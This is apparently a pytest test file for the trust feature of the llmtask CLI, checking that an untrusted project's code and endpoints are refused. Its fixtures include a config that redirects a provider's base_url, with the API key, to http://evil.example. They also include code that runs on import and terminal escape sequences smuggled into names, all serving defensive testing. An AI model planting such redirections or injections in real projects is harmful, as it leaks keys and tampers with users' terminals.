"""`llmtask trust`, `--trust`, LLMTASK_TRUST and the question at a terminal: nothing of a stranger's runs before."""

import os
import pty
import re
import select
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest

from llmtask.errors import ExitCode
from llmtask.main import COMMANDS
from tests.commands.conftest import MAIN, Command, Process, WriteFiles, environment

SCHEMA = """\
from pathlib import Path

from pydantic import BaseModel

Path({marker!r}).write_text("ran")


class JobMatch(BaseModel):
    points: int
"""
SUITE = """\
task: job_match
models: [offline]
checks: [{check: schema}]
cases: [{name: one, inputs: {resume: 工程师}}]
"""
STRANGE = "providers: {deepseek: {base_url: 'http://evil.example/v1'}}\n"
RUN = ("run", "job_match", "--input", "resume.md", "--model", "offline", "--no-log")


@pytest.fixture(autouse=True)
def _nothing_is_trusted(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("LLMTASK_TRUST")


@pytest.fixture
def marker(tmp_path: Path) -> Path:
    """Where the stranger's code leaves its mark."""
    return tmp_path / "ran"


@pytest.fixture
def stranger(files: WriteFiles, resume: str, marker: Path) -> Path:
    """The working folder is a stranger's project, with code and an endpoint of its own."""
    assert resume == "resume.md"
    return files(
        {
            "config.yaml": STRANGE,
            "schemas/job_match.py": SCHEMA.format(marker=str(marker)),
            "tests/match.llm.yaml": SUITE,
            "tests/post.llm.yaml": SUITE.replace("job_match", "job_summary").replace("resume:", "job:"),
        }
    )


def again(work: Path, marker: Path) -> None:
    """Changes the project's code."""
    with (work / "schemas/job_match.py").open("a", encoding="utf-8") as file:
        file.write("# changed\n")
    marker.unlink(missing_ok=True)


# Nobody is asked where nobody sits

HARMLESS = [
    ["route", "job_match"],
    ["tasks", "list"],
    ["tasks", "show", "job_match"],
    ["prompts", "show", "job_match"],
    ["prompts", "lint"],
    ["models", "list"],
    ["prices", "list"],
    ["schema", "--file", "config"],
    ["usage", "report"],
    ["compare"],
    ["batch", "status"],
    ["quota", "show"],
    ["budget", "show"],
    ["trust", "--show"],
    ["trust", "--revoke"],
    ["models", "check", "offline"],
    ["init", "another"],
    ["run", "job_summary", "--input", "resume.md", "--model", "offline"],
    ["test", "tests/post.llm.yaml", "--no-log"],
]
REFUSED = [
    [*RUN],
    [*RUN, "--dry-run"],
    ["run", "job_summary", "--input", "resume.md"],
    ["schema", "job_match"],
    ["models", "check", "deepseek-chat"],
    ["models", "check", "deepseek/other"],
    ["doctor"],
    ["doctor", "--offline"],
    ["batch", "job_match", "--inputs", "resume.jsonl", "--var", "resume=x"],
    ["worker", "--broker", "redis://127.0.0.1:1"],
    ["test"],
    ["test", "tests/post.llm.yaml", "--model", "deepseek-chat"],
]


def test_every_command_is_among_these() -> None:
    assert {argv[0] for argv in [*HARMLESS, *REFUSED]} == set(COMMANDS)


@pytest.mark.parametrize("argv", HARMLESS, ids=" ".join)
@pytest.mark.usefixtures("stranger")
def test_what_runs_no_code_and_reaches_for_no_key_needs_no_trust(
    command: Command, marker: Path, argv: list[str]
) -> None:
    assert command(*argv).code == ExitCode.DONE
    assert not marker.exists()


@pytest.mark.parametrize("argv", REFUSED, ids=" ".join)
@pytest.mark.usefixtures("stranger")
def test_what_runs_code_or_reaches_for_a_key_is_refused(
    command: Command, marker: Path, monkeypatch: pytest.MonkeyPatch, argv: list[str]
) -> None:
    monkeypatch.setenv("DEEPSEEK_API_KEY", "sk-canary")
    outcome = command(*argv)
    assert outcome.code == ExitCode.PROJECT
    assert "not trusted" in outcome.stdout + outcome.stderr
    assert "llmtask trust" in outcome.stdout + outcome.stderr
    assert not marker.exists()
    assert not outcome.log.exists() or outcome.rows == []
    if argv[0] != "doctor":
        assert outcome.stdout == ""


def test_the_refusal_is_one_sentence_with_the_ways_on(command: Command, stranger: Path) -> None:
    assert command(*RUN).stderr == (
        f"llmtask: project {stranger} is not trusted: schemas/job_match.py is Python code (and 1 more); look at it, "
        "then `llmtask trust`; or --trust for this once, or LLMTASK_TRUST=1\n"
    )


@pytest.mark.usefixtures("stranger")
def test_the_doctor_tells_every_risk_and_tries_nothing(command: Command, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("DEEPSEEK_API_KEY", "sk-canary")
    lines = command("doctor").stdout.splitlines()
    assert (
        "✗ not trusted: provider deepseek sends documents and DEEPSEEK_API_KEY to http://evil.example/v1 "
        "(the starter: https://api.deepseek.com/v1)"
    ) in lines
    assert "✗ not trusted: schemas/job_match.py is Python code" in lines
    assert "✓ deepseek: key from DEEPSEEK_API_KEY" in lines
    assert "- deepseek: http://evil.example/v1 is not tried before the project is trusted" in lines
    assert not any("are sound" in line for line in lines)


@pytest.mark.usefixtures("stranger")
def test_the_option_trusts_for_this_once(command: Command, marker: Path, tmp_path: Path) -> None:
    assert command(*RUN, "--trust").code == ExitCode.DONE
    assert marker.exists()
    assert command("schema", "job_match", "--trust").code == ExitCode.DONE
    assert "✓ trusted to run code" in command("doctor", "--offline", "--trust").stdout
    assert not (tmp_path / "data").exists()
    assert command(*RUN).code == ExitCode.PROJECT


@pytest.mark.usefixtures("stranger")
def test_the_variable_trusts_in_ci(process: Process, marker: Path) -> None:
    assert process(*RUN).returncode == ExitCode.PROJECT
    assert not marker.exists()
    assert process(*RUN, env={"LLMTASK_TRUST": "1"}).returncode == ExitCode.DONE
    assert marker.exists()


# llmtask trust


def test_trust_is_asked_for_once_and_again_after_a_change(process: Process, stranger: Path, marker: Path) -> None:
    given = process("trust")
    assert (given.returncode, given.stdout) == (ExitCode.DONE, "")
    assert given.stderr.splitlines() == [
        "  provider deepseek sends documents and DEEPSEEK_API_KEY to http://evil.example/v1 "
        "(the starter: https://api.deepseek.com/v1)",
        "  schemas/job_match.py is Python code",
        f"{stranger}: trusted, as it is now",
    ]
    assert not marker.exists()
    assert process(*RUN).returncode == ExitCode.DONE
    again(stranger, marker)
    assert process(*RUN).returncode == ExitCode.PROJECT
    assert not marker.exists()


@pytest.mark.usefixtures("stranger")
def test_trust_can_be_given_always_and_taken_back(process: Process, work: Path, marker: Path) -> None:
    assert process("trust", "--always", str(work)).stderr == f"{work}: trusted, whatever it will hold\n"
    again(work, marker)
    assert process(*RUN).returncode == ExitCode.DONE
    assert process("trust", "--revoke").stderr == f"{work}: trusted no more\n"
    assert process("trust", "--revoke").stderr == f"{work}: was not trusted\n"
    assert process(*RUN).returncode == ExitCode.PROJECT


def test_show_says_what_it_needs_trust_for_and_whether_it_has_it(
    command: Command, stranger: Path, marker: Path
) -> None:
    first, *shown = command("trust", "--show").stdout.splitlines()
    assert first == f"{stranger}: not trusted"
    assert shown[1:] == ["  schemas/job_match.py is Python code"]
    assert command(*RUN).code == ExitCode.PROJECT
    command("trust")
    assert command("trust", "--show").stdout.startswith(f"{stranger}: trusted: as it is now\n")
    assert not marker.exists()


def test_what_needs_no_trust_is_told_so(command: Command, files: WriteFiles, tmp_path: Path) -> None:
    folder = files({"config.yaml": "defaults: {locale: en}\n"})
    assert command("trust").stderr.replace("\n", " ").startswith(f"{folder}: needs no trust")
    assert command("trust", "--show").stdout == f"{folder}: trusted: nothing in it can do harm\n"
    assert not (tmp_path / "data").exists()


@pytest.mark.usefixtures("stranger")
def test_two_things_at_once_are_refused(command: Command) -> None:
    outcome = command("trust", "--always", "--revoke")
    assert outcome.code == ExitCode.USAGE
    assert "choose one" in outcome.stderr


def test_a_store_that_cannot_be_written_is_told(command: Command, stranger: Path, tmp_path: Path) -> None:
    (tmp_path / "data").write_text("a file", encoding="utf-8")
    outcome = command("trust")
    assert outcome.code == ExitCode.PROJECT
    assert "cannot be written (Not a directory); --trust trusts for this once, or LLMTASK_TRUST=1" in outcome.stderr
    assert stranger.exists()


def test_no_name_of_a_strangers_reaches_the_terminal_alive(command: Command, files: WriteFiles) -> None:
    config = 'providers: {"p\\e]0;x\\a": {base_url: "http://evil.example/\\e[2J"}}\n'
    prompt = 'description: "\\e[31mred"\nvariables: {}\nsystem: s\nuser: u\n'
    config += 'tasks: {job_summary: {schema: "offer:Offer"}}\nmodels: {offline: {name: "\\e[1m"}}\n'
    config += "routes: {job_summary: {paid: {model: offline}}}\n"
    files(
        {
            "config.yaml": config,
            "schemas/offer.py": "",
            "schemas/a\x1b[2Jb\n.py": "",
            "prompts/zh/job_summary.yaml": prompt,
        }
    )
    said = ""
    for argv in (
        *(["trust", "--show"], ["trust"], ["trust", "--revoke"], ["doctor"], ["schema", "job_summary"]),
        *(["tasks", "show", "job_summary"], ["tasks", "list"], ["route", "job_summary"], ["models", "list"]),
    ):
        outcome = command(*argv)
        said += outcome.stdout + outcome.stderr
    assert "evil.example" in said
    assert "\x1b" not in said.replace("\x1b[0m", "")
    assert "\x07" not in said
    assert "b\n.py" not in said


# One's own work


def test_a_project_made_here_is_ones_own_however_it_is_edited(process: Process, work: Path, marker: Path) -> None:
    assert process("init", "mine").returncode == ExitCode.DONE
    (work / "mine/config.yaml").write_text(STRANGE, encoding="utf-8")
    (work / "mine/schemas/job_match.py").write_text(SCHEMA.format(marker=str(marker)), encoding="utf-8")
    assert process("schema", "job_match", "--project", "mine").returncode == ExitCode.DONE
    assert marker.exists()
    marker.unlink()
    (work / "mine").rename(work / "moved")
    assert process("schema", "job_match", "--project", "moved").returncode == ExitCode.PROJECT
    assert not marker.exists()


def test_a_project_is_made_where_nothing_can_be_kept(command: Command, tmp_path: Path, work: Path) -> None:
    (tmp_path / "data").write_text("a file", encoding="utf-8")
    outcome = command("init", "mine")
    assert outcome.code == ExitCode.DONE
    assert "warning: " in outcome.stderr
    assert (work / "mine/config.yaml").exists()


# The question at a terminal


def asked(*argv: str, answer: bytes, stdout: int | None = None) -> tuple[int, str]:
    """Runs a command at a terminal and answers its question; gives the exit code and what the terminal showed."""
    master, slave = pty.openpty()
    with subprocess.Popen(
        [sys.executable, *MAIN, *argv],
        env=environment(COLUMNS="200", NO_COLOR="1"),
        stdin=slave,
        stdout=stdout or slave,
        stderr=slave,
        start_new_session=True,
    ) as running:
        os.close(slave)
        shown = bytearray()
        try:
            while select.select([master], [], [], 60)[0] and (piece := os.read(master, 65536)):
                shown += piece
                if b"[y/N]" in shown and answer:
                    time.sleep(0.05)
                    if answer == b"\x03":
                        running.send_signal(signal.SIGINT)
                    else:
                        os.write(master, answer)
                    answer = b""
        except OSError:  # how Linux says that the other end is closed
            pass
        os.close(master)
        code = running.wait(timeout=60)
    return code, re.sub(r"\x1b\[\d*m", "", shown.decode("utf-8").replace("\r\n", "\n"))


@pytest.mark.usefixtures("stranger")
def test_a_yes_is_asked_for_once_and_kept(marker: Path, work: Path) -> None:
    code, shown = asked("schema", "job_match", answer=b"y\n")
    assert code == ExitCode.DONE
    assert f"warning: {work} can run code and use your keys:\n  provider deepseek sends" in shown
    assert "\n  schemas/job_match.py is Python code\nTrust it, as it is now? [y/N] " in shown
    assert marker.exists()
    assert "[y/N]" not in asked("schema", "job_match", answer=b"")[1]
    again(work, marker)
    code, shown = asked("schema", "job_match", answer=b"n\n")
    assert (code, "[y/N]" in shown) == (ExitCode.PROJECT, True)


@pytest.mark.parametrize("answer", [b"n\n", b"\n", b"\x04", b"what\n"])
@pytest.mark.usefixtures("stranger")
def test_anything_else_is_a_no_and_is_asked_again(marker: Path, answer: bytes, tmp_path: Path) -> None:
    for _ in range(2):
        code, shown = asked(*RUN, answer=answer)
        assert code == ExitCode.PROJECT
        assert "is not trusted: schemas/job_match.py is Python code" in shown
    assert not marker.exists()
    assert not (tmp_path / "data").exists()


@pytest.mark.usefixtures("stranger")
def test_after_a_no_what_needs_no_trust_still_works() -> None:
    code, shown = asked("models", "check", "offline", answer=b"n\n")
    assert (code, "offline: answered" in shown) == (ExitCode.DONE, True)


@pytest.mark.usefixtures("stranger")
def test_ctrl_c_at_the_question_ends_with_130(marker: Path) -> None:
    assert asked(*RUN, answer=b"\x03")[0] == ExitCode.INTERRUPTED
    assert not marker.exists()


@pytest.mark.usefixtures("stranger")
def test_the_question_does_not_touch_stdout(tmp_path: Path) -> None:
    with (tmp_path / "out").open("wb") as out:
        code, shown = asked("schema", "job_match", answer=b"y\n", stdout=out.fileno())
    assert (code, "[y/N]" in shown) == (ExitCode.DONE, True)
    assert (tmp_path / "out").read_text(encoding="utf-8").startswith("{\n")


@pytest.mark.parametrize(
    "argv", [["route", "job_match"], ["tasks", "list"], ["models", "list"], ["doctor", "--offline"]]
)
@pytest.mark.usefixtures("stranger")
def test_what_needs_no_trust_asks_nothing(argv: list[str]) -> None:
    assert "[y/N]" not in asked(*argv, answer=b"")[1]
